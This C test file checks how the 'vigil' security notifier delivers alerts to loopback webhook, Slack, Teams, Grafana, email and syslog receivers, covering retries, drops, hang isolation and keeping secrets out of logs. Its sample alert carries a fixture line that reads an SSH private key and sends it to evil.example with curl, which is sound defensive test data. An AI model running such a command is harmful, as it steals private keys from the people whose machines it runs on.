/*
 * test_deliver.c - real deliveries: webhook, Slack, Teams, Grafana and
 * email go over loopback to tests/lib/receivers.py (HTTP + SMTP), syslog to
 * a unix datagram socket this test owns.  Covers retries after 500, 429
 * (Retry-After) and SMTP 451 delivering exactly once, no retry after a 4xx
 * or a refused SMTP login, a dead channel retried then dropped, a hanging
 * receiver that delays no other channel while notify_submit keeps returning
 * (proved by queue counters, not by timing), the bounded shutdown, and that
 * no secret ever reaches a log line or the statistics.
 *
 * Environment (set by meson): PYTHON3, RECEIVERS (the receivers.py path).
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <time.h>
#include <unistd.h>

#include "notify_int.h"
#include "tap.h"

#define WAIT_MS 30000 /* how long a test waits for something that should happen */

static char tmpdir[256];
static int http_port, smtp_port;
static pid_t receiver_pid = -1;

/* ---- diagnostics capture: every line the notifier logs ---------------------------- */

static pthread_mutex_t log_lock = PTHREAD_MUTEX_INITIALIZER;
static struct vbuf log_text;

static void log_fn(void *arg, enum vg_log_level level, const char *msg)
{
	(void)arg;
	pthread_mutex_lock(&log_lock);
	vbuf_appendf(&log_text, "%d %s\n", (int)level, msg);
	pthread_mutex_unlock(&log_lock);
}

static bool log_has(const char *s)
{
	bool has;

	pthread_mutex_lock(&log_lock);
	has = log_text.data && strstr((const char *)log_text.data, s);
	pthread_mutex_unlock(&log_lock);
	return has;
}

/* ---- helpers ------------------------------------------------------------------------ */

static void sleep_ms(long ms)
{
	struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };

	nanosleep(&ts, NULL);
}

static json_t *read_jsonl(const char *name)
{
	char path[512], *text = NULL, *line, *save = NULL;
	json_t *arr = json_array();
	size_t len;

	snprintf(path, sizeof(path), "%s/out/%s", tmpdir, name);
	if (vg_read_file(path, 64 << 20, &text, &len) < 0)
		return arr;
	for (line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		json_t *j = json_loads(line, 0, NULL);

		if (j)
			json_array_append_new(arr, j);
	}
	vg_free(text);
	return arr;
}

/* The receiver's HTTP records whose path starts with prefix. */
static json_t *http_records(const char *prefix)
{
	json_t *all = read_jsonl("http.jsonl"), *out = json_array(), *r;
	size_t i;

	json_array_foreach(all, i, r) {
		const char *p = json_string_value(json_object_get(r, "path"));

		if (p && strncmp(p, prefix, strlen(prefix)) == 0)
			json_array_append(out, r);
	}
	json_decref(all);
	return out;
}

static int start_receivers(void)
{
	const char *py = getenv("PYTHON3"), *script = getenv("RECEIVERS");
	char out[512], ready[512], *text = NULL;
	size_t len;
	json_t *j;

	if (!py || !script) {
		printf("# PYTHON3 and RECEIVERS must be set (meson does)\n");
		return -1;
	}
	snprintf(out, sizeof(out), "%s/out", tmpdir);
	snprintf(ready, sizeof(ready), "%s/ready.json", tmpdir);
	receiver_pid = fork();
	if (receiver_pid == 0) {
		int fd = open("/dev/null", O_WRONLY);

		dup2(fd, 1);
		execl(py, py, script, "--http-port", "0", "--smtp-port", "0", "--out", out,
		      "--ready-file", ready, "--smtp-user", "vigil", "--smtp-password", "s3cret",
		      "--smtp-fail-first", "1", "--hang-seconds", "120", (char *)NULL);
		_exit(127);
	}
	if (receiver_pid < 0)
		return -1;
	for (int i = 0; i < WAIT_MS / 50; i++) {
		if (vg_read_file(ready, 4096, &text, &len) == 0)
			break;
		if (waitpid(receiver_pid, NULL, WNOHANG) == receiver_pid) {
			receiver_pid = -1;
			return -1;
		}
		sleep_ms(50);
	}
	j = text ? json_loads(text, 0, NULL) : NULL;
	vg_free(text);
	http_port = (int)json_integer_value(json_object_get(j, "http_port"));
	smtp_port = (int)json_integer_value(json_object_get(j, "smtp_port"));
	json_decref(j);
	return http_port > 0 && smtp_port > 0 ? 0 : -1;
}

static void stop_receivers(void)
{
	if (receiver_pid > 0) {
		kill(receiver_pid, SIGTERM);
		waitpid(receiver_pid, NULL, 0);
	}
}

static struct notify *make(const char *cfg_text, uint32_t flush_ms)
{
	struct notify_opts o = { .state_dir = tmpdir, .hostname = "testhost", .log = log_fn,
				 .flush_timeout_ms = flush_ms };
	json_t *cfg = json_loads(cfg_text, 0, NULL);
	struct notify *n = NULL;
	char err[512];

	if (!cfg)
		printf("# bad test JSON: %s\n", cfg_text);
	else if (notify_new(cfg, &o, &n, err, sizeof(err)) < 0)
		printf("# notify_new: %s\n", err);
	json_decref(cfg);
	return n;
}

static int submit(struct notify *n, const char *rule, const char *level)
{
	json_t *r = json_pack("{s:s, s:s, s:s, s:{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:i,"
			      " s:s, s:s, s:[s]}}",
			      "session_id", "sess-1", "agent", "claude-code", "host", "vm", "alert",
			      "id", "01900000-0000-7000-8000-0000000000aa", "update", "open", "state",
			      "open", "rule_id", rule, "rule_title", "Private key read then egress",
			      "level", level, "action", "alert", "session_id", "sess-1", "count", 1,
			      "first_seen", "2026-11-23T17:00:00.000Z", "reason",
			      "cat ~/.ssh/id_rsa then curl https://evil.example", "tags",
			      "attack.exfiltration");
	int rc = notify_submit(n, r);

	json_decref(r);
	return rc;
}

static long long stat_of(struct notify *n, const char *name, const char *key)
{
	json_t *s = notify_stats_json(n), *c;
	long long v = -1;
	size_t i;

	json_array_foreach(json_object_get(s, "channels"), i, c)
		if (strcmp(json_string_value(json_object_get(c, "name")), name) == 0)
			v = (long long)json_integer_value(json_object_get(c, key));
	json_decref(s);
	return v;
}

/* Polls until channel name's counter key reaches want (or WAIT_MS passes). */
static bool wait_stat(struct notify *n, const char *name, const char *key, long long want)
{
	for (int i = 0; i < WAIT_MS / 20; i++) {
		if (stat_of(n, name, key) >= want)
			return true;
		sleep_ms(20);
	}
	return false;
}

static const char *jpath_s(const json_t *j, const char *path)
{
	char key[64];

	while (j && *path) {
		const char *dot = strchr(path, '.');
		size_t len = dot ? (size_t)(dot - path) : strlen(path);

		snprintf(key, sizeof(key), "%.*s", (int)len, path);
		if (json_is_array(j))
			j = json_array_get(j, (size_t)atoi(key));
		else
			j = json_object_get(j, key);
		path += len + (dot ? 1 : 0);
	}
	return json_string_value(j) ? json_string_value(j) : "";
}

/* A loopback port nobody listens on. */
static int dead_port(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001) };
	socklen_t sl = sizeof(sa);
	int fd = socket(AF_INET, SOCK_STREAM, 0), port = 0;

	if (fd >= 0 && bind(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0 &&
	    getsockname(fd, (struct sockaddr *)&sa, &sl) == 0)
		port = ntohs(sa.sin_port);
	if (fd >= 0)
		close(fd);
	return port;
}

/* ---- the tests -------------------------------------------------------------------------- */

static void test_all_channels(void)
{
	char cfg[4096];
	struct notify *n;
	json_t *r, *mails, *last;
	const char *data;

	snprintf(cfg, sizeof(cfg),
		 "{\"channels\": ["
		 "{\"type\": \"webhook\", \"url\": \"http://127.0.0.1:%d/hook?token=SECRETQ\", "
		 "\"headers\": {\"X-Token\": \"SECRETH\"}},"
		 "{\"type\": \"slack\", \"url\": \"http://127.0.0.1:%d/slack/T0/B0/SECRETS\"},"
		 "{\"type\": \"webhook\", \"name\": \"put\", \"method\": \"PUT\", \"url\": "
		 "\"http://127.0.0.1:%d/put\"},"
		 "{\"type\": \"teams\", \"url\": \"http://127.0.0.1:%d/teams\"},"
		 "{\"type\": \"grafana\", \"url\": \"http://127.0.0.1:%d/graf/\", \"token\": "
		 "\"SECRETG\", \"tags\": [\"ci\"]},"
		 "{\"type\": \"email\", \"url\": \"smtp://127.0.0.1:%d\", \"from\": "
		 "\"vigil@test.example\", \"to\": [\"sec@example.com\", \"ops@example.com\"], "
		 "\"username\": \"vigil\", \"password\": \"s3cret\", \"backoff\": \"50ms\"}]}",
		 http_port, http_port, http_port, http_port, http_port, smtp_port);
	n = make(cfg, 2000);
	TAP_OK(n != NULL, "notifier with webhook, slack, teams, grafana and email");
	if (!n)
		return;
	TAP_OK(submit(n, "vigil-exfil-sequence", "high") == 0, "a high alert submitted");
	TAP_OK(notify_flush(n, WAIT_MS) == 0, "every channel finished");

	r = http_records("/hook");
	TAP_OK(json_array_size(r) == 1 &&
		       strcmp(jpath_s(r, "0.json.alert.rule_id"), "vigil-exfil-sequence") == 0 &&
		       strcmp(jpath_s(r, "0.json.notification"), "alert") == 0 &&
		       strcmp(jpath_s(r, "0.json.session_id"), "sess-1") == 0 &&
		       strstr(jpath_s(r, "0.json.text"), "[vigil] HIGH: Private key read") &&
		       strcmp(jpath_s(r, "0.headers.x-token"), "SECRETH") == 0 &&
		       strcmp(jpath_s(r, "0.headers.content-type"), "application/json") == 0 &&
		       strncmp(jpath_s(r, "0.headers.user-agent"), "vigil/", 6) == 0 &&
		       strcmp(jpath_s(r, "0.query"), "token=SECRETQ") == 0 &&
		       strcmp(jpath_s(r, "0.method"), "POST") == 0,
	       "webhook: one POST with the alert, the text, the configured header and query");
	json_decref(r);
	r = http_records("/put");
	TAP_OK(json_array_size(r) == 1 && strcmp(jpath_s(r, "0.method"), "PUT") == 0 &&
		       strcmp(jpath_s(r, "0.json.alert.rule_id"), "vigil-exfil-sequence") == 0,
	       "webhook with method PUT");
	json_decref(r);
	r = http_records("/slack/");
	TAP_OK(json_array_size(r) == 1 && strcmp(jpath_s(r, "0.json.blocks.0.type"), "header") == 0 &&
		       strstr(jpath_s(r, "0.json.text"), "Private key read"),
	       "slack: one Block Kit message");
	json_decref(r);
	r = http_records("/teams");
	TAP_OK(json_array_size(r) == 1 &&
		       strcmp(jpath_s(r, "0.json.attachments.0.content.type"), "AdaptiveCard") == 0,
	       "teams: one Adaptive Card message");
	json_decref(r);
	r = http_records("/graf");
	TAP_OK(json_array_size(r) == 1 &&
		       strcmp(jpath_s(r, "0.path"), "/graf/api/annotations") == 0 &&
		       strcmp(jpath_s(r, "0.headers.authorization"), "Bearer SECRETG") == 0 &&
		       strcmp(jpath_s(r, "0.json.tags.0"), "ci") == 0 &&
		       json_is_integer(json_object_get(json_object_get(json_array_get(r, 0), "json"),
						       "time")),
	       "grafana: POST /api/annotations with the bearer token, tags and time");
	json_decref(r);

	mails = read_jsonl("smtp.jsonl");
	last = json_array_get(mails, json_array_size(mails) - 1);
	data = jpath_s(last, "data");
	TAP_OK(json_array_size(mails) == 2 &&
		       json_integer_value(json_object_get(json_array_get(mails, 0), "status")) == 451 &&
		       json_integer_value(json_object_get(last, "status")) == 250,
	       "email: 451 on the first try, delivered on the second");
	TAP_OK(strcmp(jpath_s(last, "mail_from"), "<vigil@test.example>") == 0 &&
		       json_array_size(json_object_get(last, "rcpt_to")) == 2 &&
		       strcmp(jpath_s(last, "auth_user"), "vigil") == 0 &&
		       json_is_true(json_object_get(last, "crlf")),
	       "email: envelope, both recipients, AUTH PLAIN, CRLF lines");
	TAP_OK(strstr(data, "Subject: [vigil] HIGH: Private key read then egress\r\n") &&
		       strstr(data, "Date: ") && strstr(data, "Message-ID: <") &&
		       strstr(data, "To: <sec@example.com>,\r\n    <ops@example.com>\r\n") &&
		       strstr(data, "cat ~/.ssh/id_rsa then curl https://evil.example"),
	       "email: RFC 5322 headers and the reason in the body");
	json_decref(mails);

	TAP_OK(stat_of(n, "webhook", "sent") == 1 && stat_of(n, "slack", "sent") == 1 &&
		       stat_of(n, "put", "sent") == 1 &&
		       stat_of(n, "teams", "sent") == 1 && stat_of(n, "grafana", "sent") == 1 &&
		       stat_of(n, "email", "sent") == 1,
	       "stats: one sent on every channel");
	TAP_EQ_U64(stat_of(n, "email", "retried"), 1, "stats: email retried once");
	notify_free(n);
}

static void test_retries(void)
{
	char cfg[2048];
	struct notify *n;
	json_t *r;

	snprintf(cfg, sizeof(cfg),
		 "{\"channels\": ["
		 "{\"type\": \"webhook\", \"name\": \"flaky\", \"url\": "
		 "\"http://127.0.0.1:%d/flaky/2/b\", \"backoff\": \"50ms\"},"
		 "{\"type\": \"webhook\", \"name\": \"limited\", \"url\": "
		 "\"http://127.0.0.1:%d/limited/1/c\", \"backoff\": \"50ms\"},"
		 "{\"type\": \"slack\", \"name\": \"rejected\", \"url\": "
		 "\"http://127.0.0.1:%d/status/404/SECRETP\", \"backoff\": \"50ms\"}]}",
		 http_port, http_port, http_port);
	n = make(cfg, 2000);
	TAP_OK(n != NULL, "notifier with a flaky, a rate-limited and a rejecting receiver");
	if (!n)
		return;
	submit(n, "vigil-retry", "critical");
	TAP_OK(notify_flush(n, WAIT_MS) == 0, "flushed");

	r = http_records("/flaky/2/b");
	TAP_OK(json_array_size(r) == 3 && json_integer_value(json_object_get(
						  json_array_get(r, 2), "status")) == 200,
	       "500, 500, then delivered: 3 requests");
	json_decref(r);
	TAP_OK(stat_of(n, "flaky", "sent") == 1 && stat_of(n, "flaky", "retried") == 2 &&
		       stat_of(n, "flaky", "failed") == 0,
	       "flaky: sent once, retried twice");

	r = http_records("/limited/1/c");
	TAP_OK(json_array_size(r) == 2, "429 then delivered: 2 requests");
	if (json_array_size(r) == 2) {
		double t0 = json_real_value(json_object_get(json_array_get(r, 0), "time"));
		double t1 = json_real_value(json_object_get(json_array_get(r, 1), "time"));

		TAP_OK(t1 - t0 >= 0.9, "the retry waited for Retry-After: 1 (not backoff's 50 ms): "
		       "%.3f s", t1 - t0);
	}
	json_decref(r);
	TAP_OK(stat_of(n, "limited", "sent") == 1 && stat_of(n, "limited", "retried") == 1,
	       "limited: sent once, retried once");

	r = http_records("/status/404/SECRETP");
	TAP_EQ_U64(json_array_size(r), 1, "404: one request, no retry");
	json_decref(r);
	TAP_OK(stat_of(n, "rejected", "failed") == 1 && stat_of(n, "rejected", "retried") == 0 &&
		       stat_of(n, "rejected", "sent") == 0,
	       "rejected: failed once, never retried");
	TAP_OK(log_has("channel 'rejected': notification for rule vigil-retry dropped after 1 "
		       "attempt: http://127.0.0.1:"),
	       "the drop is logged with the channel and the target");
	TAP_OK(log_has("HTTP 404 (answer withheld: it quotes the URL or a secret)"),
	       "an answer quoting the secret URL path is withheld");
	notify_free(n);
}

static void test_dead_channel(void)
{
	char cfg[1024];
	struct notify *n;
	json_t *s;
	char *dump;

	snprintf(cfg, sizeof(cfg),
		 "{\"channels\": [{\"type\": \"webhook\", \"name\": \"dead\", \"url\": "
		 "\"http://127.0.0.1:%d/x?token=SECRETD\", \"max_attempts\": 3, \"backoff\": "
		 "\"20ms\"}]}", dead_port());
	n = make(cfg, 2000);
	TAP_OK(n != NULL, "notifier with a channel nobody listens to");
	if (!n)
		return;
	submit(n, "vigil-dead", "high");
	TAP_OK(notify_flush(n, WAIT_MS) == 0, "flushed");
	TAP_OK(stat_of(n, "dead", "failed") == 1 && stat_of(n, "dead", "retried") == 2 &&
		       stat_of(n, "dead", "sent") == 0,
	       "connection refused: 3 attempts, then dropped and counted");
	s = notify_stats_json(n);
	dump = s ? json_dumps(s, JSON_COMPACT) : NULL;
	TAP_OK(dump && strstr(dump, "Couldn't connect") && !strstr(dump, "SECRET") &&
		       !strstr(dump, "/x"),
	       "last_error says why, with neither the path nor the query");
	free(dump);
	json_decref(s);
	notify_free(n);
}

static void test_hang_isolation(void)
{
	char cfg[1024], rule[32];
	struct notify *n;
	json_t *r;
	uint64_t t0;
	bool all_ok = true;
	int hung = 0;

	snprintf(cfg, sizeof(cfg),
		 "{\"channels\": ["
		 "{\"type\": \"webhook\", \"name\": \"hang\", \"url\": \"http://127.0.0.1:%d/hang\", "
		 "\"timeout\": \"60s\", \"queue\": 2, \"max_attempts\": 1},"
		 "{\"type\": \"webhook\", \"name\": \"fast\", \"url\": \"http://127.0.0.1:%d/fast\"}]}",
		 http_port, http_port);
	n = make(cfg, 500);
	TAP_OK(n != NULL, "notifier with a hanging and a working receiver");
	if (!n)
		return;
	submit(n, "hang-0", "high");
	/* The first notification is in flight once the receiver has it. */
	for (int i = 0; i < WAIT_MS / 20 && !hung; i++) {
		r = http_records("/hang");
		hung = (int)json_array_size(r);
		json_decref(r);
		if (!hung)
			sleep_ms(20);
	}
	TAP_OK(hung == 1, "the hanging receiver holds the first request");
	TAP_OK(wait_stat(n, "fast", "sent", 1), "the other channel delivered meanwhile");
	for (int i = 1; i <= 4; i++) {
		snprintf(rule, sizeof(rule), "hang-%d", i);
		if (submit(n, rule, "high") != 0)
			all_ok = false;
	}
	TAP_OK(all_ok, "notify_submit returned for every alert while a channel hangs");
	TAP_OK(stat_of(n, "hang", "queued") == 2 && stat_of(n, "hang", "dropped") == 2,
	       "hang: queue of 2 full, 2 more dropped (queued %lld, dropped %lld)",
	       stat_of(n, "hang", "queued"), stat_of(n, "hang", "dropped"));
	TAP_OK(wait_stat(n, "fast", "sent", 5), "fast: all 5 delivered");
	TAP_OK(notify_flush(n, 100) == -ETIMEDOUT, "notify_flush gives up on the hung channel");
	t0 = vg_mono_ns();
	notify_shutdown(n);
	TAP_DIAG("shutdown with a 500 ms flush timeout took %.3f s",
		 (double)(vg_mono_ns() - t0) / 1e9);
	TAP_OK(stat_of(n, "hang", "sent") == 0 && stat_of(n, "hang", "dropped") == 5,
	       "shutdown abandons the in-flight and the queued: 5 dropped in all");
	TAP_OK(stat_of(n, "fast", "sent") == 5 && stat_of(n, "fast", "dropped") == 0,
	       "fast: nothing lost");
	TAP_OK(log_has("channel 'hang': notification for rule hang-0 abandoned at shutdown"),
	       "the abandoned delivery is logged");
	notify_free(n);
}

static void test_syslog(void)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char cfg[1024], buf[4096], missing[300];
	struct pollfd pfd;
	struct notify *n;
	ssize_t len = -1;
	int fd;

	if (vg_path(sa.sun_path, sizeof(sa.sun_path), "%s/log.sock", tmpdir) < 0) {
		TAP_OK(0, "the socket path fits in sun_path");
		return;
	}
	snprintf(missing, sizeof(missing), "%s/missing.sock", tmpdir);
	fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	TAP_OK(fd >= 0 && bind(fd, (struct sockaddr *)&sa, sizeof(sa)) == 0,
	       "a syslog socket of our own");
	snprintf(cfg, sizeof(cfg),
		 "{\"channels\": [{\"type\": \"syslog\", \"socket\": \"%s\", \"facility\": "
		 "\"local3\", \"ident\": \"vigil-it\"}, {\"type\": \"syslog\", \"name\": \"nosock\", "
		 "\"socket\": \"%s\", \"max_attempts\": 2, \"backoff\": \"10ms\"}]}",
		 sa.sun_path, missing);
	n = make(cfg, 2000);
	TAP_OK(n != NULL, "notifier with a syslog channel on it");
	if (!n) {
		close(fd);
		return;
	}
	submit(n, "vigil-monitor-tamper", "critical");
	pfd = (struct pollfd){ .fd = fd, .events = POLLIN };
	if (poll(&pfd, 1, WAIT_MS) == 1)
		len = recv(fd, buf, sizeof(buf) - 1, 0);
	if (len >= 0)
		buf[len] = '\0';
	TAP_OK(len > 0 && strncmp(buf, "<154>", 5) == 0, "priority local3.crit is 154: %.40s",
	       len > 0 ? buf : "");
	TAP_OK(len > 0 && strstr(buf, " vigil-it[") && strstr(buf, "]: vigil alert ") &&
		       strstr(buf, "rule=vigil-monitor-tamper") && strstr(buf, "session=sess-1"),
	       "ident[pid]: then key=value fields");
	TAP_OK(notify_flush(n, WAIT_MS) == 0, "flushed");
	TAP_OK(stat_of(n, "syslog", "sent") == 1, "syslog: sent 1");
	TAP_OK(stat_of(n, "nosock", "failed") == 1 && stat_of(n, "nosock", "retried") == 1,
	       "a missing socket: retried, then failed");
	notify_free(n);
	close(fd);
}

static void test_smtp_login_refused(void)
{
	char cfg[1024];
	struct notify *n;

	snprintf(cfg, sizeof(cfg),
		 "{\"channels\": [{\"type\": \"email\", \"url\": \"smtp://127.0.0.1:%d\", \"from\": "
		 "\"v@t.example\", \"to\": \"s@t.example\", \"username\": \"vigil\", \"password\": "
		 "\"SECRETPW\", \"backoff\": \"20ms\"}, {\"type\": \"email\", \"name\": \"tls\", "
		 "\"url\": \"smtp://127.0.0.1:%d\", \"from\": \"v@t.example\", \"to\": \"s@t.example\", "
		 "\"starttls\": true, \"backoff\": \"20ms\"}]}", smtp_port, smtp_port);
	n = make(cfg, 2000);
	TAP_OK(n != NULL, "notifier with a wrong SMTP password, and one requiring STARTTLS");
	if (!n)
		return;
	submit(n, "vigil-login", "critical");
	TAP_OK(notify_flush(n, WAIT_MS) == 0, "flushed");
	TAP_OK(stat_of(n, "email", "failed") == 1 && stat_of(n, "email", "retried") == 0,
	       "a refused login fails at once");
	TAP_OK(stat_of(n, "tls", "failed") == 1 && stat_of(n, "tls", "retried") == 0 &&
		       stat_of(n, "tls", "sent") == 0,
	       "starttls: true against a server without STARTTLS fails at once, sends nothing");
	notify_free(n);
}

int main(void)
{
	const char *base = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
	char cmd[400];

	signal(SIGPIPE, SIG_IGN);
	vbuf_init(&log_text, 4 << 20);
	snprintf(tmpdir, sizeof(tmpdir), "%s/vigil-deliver-XXXXXX", base);
	if (!mkdtemp(tmpdir)) {
		perror("mkdtemp");
		return 1;
	}
	TAP_OK(start_receivers() == 0, "receivers.py listening (http %d, smtp %d)", http_port,
	       smtp_port);
	if (http_port <= 0 || smtp_port <= 0) {
		stop_receivers();
		return tap_done();
	}
	test_all_channels();
	test_retries();
	test_dead_channel();
	test_hang_isolation();
	test_syslog();
	test_smtp_login_refused();
	TAP_OK(!log_has("SECRET") && !log_has("s3cret"),
	       "no URL path, query, header, token or password in any log line");
	stop_receivers();
	vbuf_release(&log_text);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
	if (system(cmd) != 0)
		TAP_DIAG("could not remove %s", tmpdir);
	return tap_done();
}
